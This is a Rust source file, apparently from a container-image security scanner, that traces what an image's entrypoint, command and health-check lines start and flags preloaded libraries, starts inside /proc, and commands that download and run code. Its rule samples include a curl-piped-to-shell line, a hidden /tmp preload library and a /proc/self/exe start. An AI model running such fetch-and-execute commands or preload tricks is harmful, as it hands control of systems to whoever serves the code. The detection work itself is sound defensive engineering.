//! What starts a file, and what an image's own command is up to.
//!
//! A starter names paths and bare words. A path is looked up as it is and by its other name on
//! a merged `/usr`; a bare word names the files of that name in the directories of `PATH`, a
//! word without a leading slash also a file of the working directory or beside the script. One
//! script is followed: what the entrypoint's script names is started by the entrypoint.

use std::collections::HashMap;

use seaworthy_core::{
    EvidenceItem, ImageEvidence, ImagePath, ImageStart, MalwareBasis, Meta, Severity, StartedBy,
    StarterKind,
};

use super::merged_usr_alias;
use crate::heuristics::{self, Command, HeuristicRule, Sample, Scope};

/// A library of the environment's.
pub(crate) const PRELOADED: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "preloaded-library",
        revision: 1,
        summary: "environment that loads a library into every program",
        references: &["https://man7.org/linux/man-pages/man8/ld.so.8.html"],
    },
    severity: Severity::Low,
    basis: MalwareBasis::Behaviour,
    attack: "T1574.006",
    scope: Scope::Start,
    advice: "set `LD_PRELOAD` for the one program that needs the library, not with `ENV`",
    positive: &[Sample::Start {
        words: &["/app"],
        preload: &["/tmp/.x.so"],
    }],
    negative: &[Sample::Start {
        words: &["/app"],
        preload: &["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"],
    }],
};

/// A start inside `/proc`.
pub(crate) const START_IN_PROC: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "exploit-start-in-proc",
        revision: 1,
        summary: "image that starts inside the runtime's own files",
        references: &[
            "https://nvd.nist.gov/vuln/detail/CVE-2024-21626",
            "https://nvd.nist.gov/vuln/detail/CVE-2019-5736",
        ],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1611",
    scope: Scope::Start,
    advice: "don't run the image; update runc on every host that did",
    positive: &[Sample::Start {
        words: &["/proc/self/exe"],
        preload: &[],
    }],
    negative: &[Sample::Start {
        words: &["cat", "/proc/self/status"],
        preload: &[],
    }],
};

/// A command that fetches its code.
pub(crate) const DOWNLOADS: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "start-downloads-code",
        revision: 1,
        summary: "image whose command runs what it downloads or decodes",
        references: &["https://attack.mitre.org/techniques/T1105/"],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1105",
    scope: Scope::Start,
    advice: "put the code into the image at build time, with its digest checked: as it is, what runs is decided \
             elsewhere, later",
    positive: &[Sample::Start {
        words: &["/bin/sh", "-c", "curl -s http://a.example.com/x | sh"],
        preload: &[],
    }],
    negative: &[Sample::Start {
        words: &[
            "/bin/sh",
            "-c",
            "curl -s http://a.example.com/x -o /data/x; exec app",
        ],
        preload: &[],
    }],
};

/// Starters that a finding names.
pub(super) const STARTERS: usize = 8;

/// Who starts what in the final view.
pub(super) struct Starts {
    /// By path without leading slash, or by bare word with a leading NUL.
    direct: HashMap<String, Vec<StartedBy>>,
    scripts: HashMap<String, Vec<ImagePath>>,
    path: Vec<String>,
}

impl Starts {
    pub(super) fn new(image: &ImageEvidence) -> Starts {
        let start = &image.start;
        // What a hostile image names a million times is kept a few times.
        fn keep<T>(kept: &mut Vec<T>, one: T) {
            if kept.len() < STARTERS {
                kept.push(one);
            }
        }
        let mut starts = Starts {
            direct: HashMap::new(),
            scripts: HashMap::new(),
            path: search_path(start),
        };
        for (kind, words) in configured(start) {
            for name in names(words) {
                for key in keys(&name, &[&start.working_dir]) {
                    keep(
                        starts.direct.entry(key).or_default(),
                        StartedBy { kind, path: None },
                    );
                }
            }
        }
        for traced in &image.items {
            let EvidenceItem::Starter(starter) = &traced.item else {
                continue;
            };
            if traced.removed_by.is_some() {
                continue;
            }
            let beside = traced.path.parent().unwrap_or_default();
            for word in &starter.starts {
                for key in keys(word, &[beside, &start.working_dir]) {
                    if starter.kind == StarterKind::Script {
                        keep(starts.scripts.entry(key).or_default(), traced.path.clone());
                    } else {
                        keep(
                            starts.direct.entry(key).or_default(),
                            StartedBy {
                                kind: starter.kind,
                                path: Some(traced.path.clone()),
                            },
                        );
                    }
                }
            }
        }
        starts
    }

    /// What starts the file; `own` is the way in which it starts things itself.
    pub(super) fn of(&self, path: &ImagePath, own: Option<StarterKind>) -> Vec<StartedBy> {
        let mut found: Vec<StartedBy> = Vec::new();
        if let Some(kind) = own.filter(|kind| *kind != StarterKind::Script) {
            found.push(StartedBy {
                kind,
                path: Some(path.clone()),
            });
        }
        found.extend(self.directly(path));
        for key in self.keys_of(path) {
            for script in self.scripts.get(&key).into_iter().flatten().take(STARTERS) {
                if script == path {
                    continue;
                }
                found.extend(self.directly(script).map(|by| StartedBy {
                    kind: by.kind,
                    path: Some(script.clone()),
                }));
            }
        }
        found.sort();
        found.dedup();
        found.truncate(STARTERS);
        found
    }

    fn directly(&self, path: &ImagePath) -> impl Iterator<Item = StartedBy> {
        let itself = path.clone();
        self.keys_of(path)
            .into_iter()
            .flat_map(|key| self.direct.get(&key).cloned().unwrap_or_default())
            .filter(move |by| by.path.as_ref() != Some(&itself))
    }

    fn keys_of(&self, path: &ImagePath) -> Vec<String> {
        let mut keys = vec![path.as_str().to_owned()];
        keys.extend(merged_usr_alias(path.as_str()));
        let parent = path.parent().unwrap_or_default();
        let other = merged_usr_alias(path.as_str())
            .and_then(|other| other.rsplit_once('/').map(|(parent, _)| parent.to_owned()));
        if self
            .path
            .iter()
            .any(|known| known == parent || Some(known) == other.as_ref())
        {
            keys.push(format!("\0{}", path.file_name()));
        }
        keys
    }
}

fn search_path(start: &ImageStart) -> Vec<String> {
    const USUAL: &[&str] = &[
        "usr/local/sbin",
        "usr/local/bin",
        "usr/sbin",
        "usr/bin",
        "sbin",
        "bin",
    ];
    if start.path.is_empty() {
        return USUAL.iter().map(|path| (*path).to_owned()).collect();
    }
    start
        .path
        .iter()
        .map(|path| ImagePath::new(path).as_str().to_owned())
        .collect()
}

/// How a name may be looked up.
fn keys(word: &str, directories: &[&str]) -> Vec<String> {
    if word.starts_with('/') {
        return vec![ImagePath::new(word).as_str().to_owned()];
    }
    let mut keys: Vec<String> = directories
        .iter()
        .map(|directory| {
            ImagePath::new(&format!("{directory}/{word}"))
                .as_str()
                .to_owned()
        })
        .collect();
    if !word.contains('/') {
        keys.push(format!("\0{word}"));
    }
    keys.dedup();
    keys
}

/// The configuration's commands, with how each is run.
pub(super) fn configured(start: &ImageStart) -> impl Iterator<Item = (StarterKind, &[String])> {
    let health = match start.health_check.split_first() {
        Some((first, rest)) if matches!(first.as_str(), "CMD" | "CMD-SHELL") => rest,
        Some((first, _)) if first == "NONE" => &[],
        _ => &start.health_check,
    };
    [
        (StarterKind::Entrypoint, start.entrypoint.as_slice()),
        (StarterKind::Command, start.command.as_slice()),
        (StarterKind::HealthCheck, health),
    ]
    .into_iter()
    .chain(
        start
            .on_build
            .chunks(1)
            .map(|line| (StarterKind::OnBuild, line)),
    )
    .filter(|(_, words)| !words.is_empty())
}

/// The shell commands in a configured command: of its one line, of `sh -c LINE`, or itself.
pub(super) fn commands(words: &[String]) -> Vec<Command> {
    if let [line] = words {
        let line = line.strip_prefix("RUN ").unwrap_or(line);
        return heuristics::parse_shell(line);
    }
    let command = Command {
        words: words.to_vec(),
        ..Command::default()
    };
    let mut all = match heuristics::shell_line(&command) {
        Some(line) => heuristics::parse_shell(line),
        None => Vec::new(),
    };
    all.push(command);
    all
}

/// Paths and program names in a configured command.
fn names(words: &[String]) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for command in commands(words) {
        names.extend(command.program_word().map(str::to_owned));
        names.extend(command.words.into_iter().filter(|word| {
            !word.starts_with('-') && !word.contains([' ', '\n', '=']) && word.len() < 256
        }));
    }
    names
}

/// Something that the configuration is up to.
pub(super) struct Up {
    pub rule: &'static HeuristicRule,
    pub severity: Severity,
    pub kind: Option<StarterKind>,
    pub note: String,
}

/// Looks at the configuration.
pub(super) fn examine(image: &ImageEvidence) -> Vec<Up> {
    let start = &image.start;
    let mut found = Vec::new();
    for (kind, words) in configured(start) {
        let commands = commands(words);
        let word = kind.as_str();
        for known in heuristics::examine_commands(&commands) {
            // What is built on top fetches what it needs: that is what such lines are for.
            let severity =
                if kind == StarterKind::OnBuild && known.rule.meta.id == DOWNLOADS.meta.id {
                    Severity::Low
                } else {
                    known.rule.severity
                };
            found.push(Up {
                rule: known.rule,
                severity,
                kind: Some(kind),
                note: format!("{word}: {}", known.note),
            });
        }
        let first = commands.iter().filter_map(Command::program_word);
        if let Some(path) = first
            .chain(std::iter::once(start.working_dir.as_str()))
            .find(|path| is_in_proc(path))
        {
            found.push(Up {
                rule: &START_IN_PROC,
                severity: START_IN_PROC.severity,
                kind: Some(kind),
                note: format!("{word}: `{}`", place_in_proc(path)),
            });
        }
    }
    if is_in_proc(&start.working_dir)
        && !found
            .iter()
            .any(|up| up.rule.meta.id == START_IN_PROC.meta.id)
    {
        found.push(Up {
            rule: &START_IN_PROC,
            severity: START_IN_PROC.severity,
            kind: None,
            note: format!("working directory: `{}`", place_in_proc(&start.working_dir)),
        });
    }
    for library in start.preload.iter().take(16) {
        if let Some((severity, note)) = preload(image, library) {
            found.push(Up {
                rule: &PRELOADED,
                severity,
                kind: None,
                note,
            });
        }
    }
    found
}

fn is_in_proc(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("/proc/") else {
        return false;
    };
    let (process, below) = rest.split_once('/').unwrap_or((rest, ""));
    let is_process = process == "self"
        || process == "thread-self"
        || process.bytes().all(|b| b.is_ascii_digit());
    is_process
        && ["fd", "exe", "root", "cwd"]
            .iter()
            .any(|name| below.split('/').next() == Some(name))
}

fn place_in_proc(path: &str) -> &str {
    path.get(..64).unwrap_or(path)
}

/// Memory allocators, which images are meant to preload, and helpers of well-known images.
fn preload(image: &ImageEvidence, library: &str) -> Option<(Severity, String)> {
    const USUAL: &[&str] = &[
        "libjemalloc",
        "libtcmalloc",
        "libmimalloc",
        "libnss_wrapper",
        "libfaketime",
        "libasan",
        "libgomp",
        "libstdc++",
        "libeatmydata",
    ];
    let path = ImagePath::new(library);
    let text = path.as_str();
    let odd = ["tmp/", "var/tmp/", "dev/", "run/"]
        .iter()
        .any(|place| text.starts_with(place))
        || text.split('/').any(|part| part.starts_with('.'))
        || library.starts_with("/proc/");
    if odd {
        return Some((Severity::High, format!("`LD_PRELOAD` names `{path}`")));
    }
    let known = USUAL
        .iter()
        .any(|usual| path.file_name().starts_with(usual));
    let is_owned = |path: &str| {
        image
            .owned_files
            .binary_search_by(|(file, _)| file.path.as_str().cmp(path))
            .is_ok()
    };
    let owned = is_owned(text) || merged_usr_alias(text).is_some_and(|other| is_owned(&other));
    (!known && !owned).then(|| {
        (
            PRELOADED.severity,
            format!("`LD_PRELOAD` names `{path}`, which no package owns"),
        )
    })
}
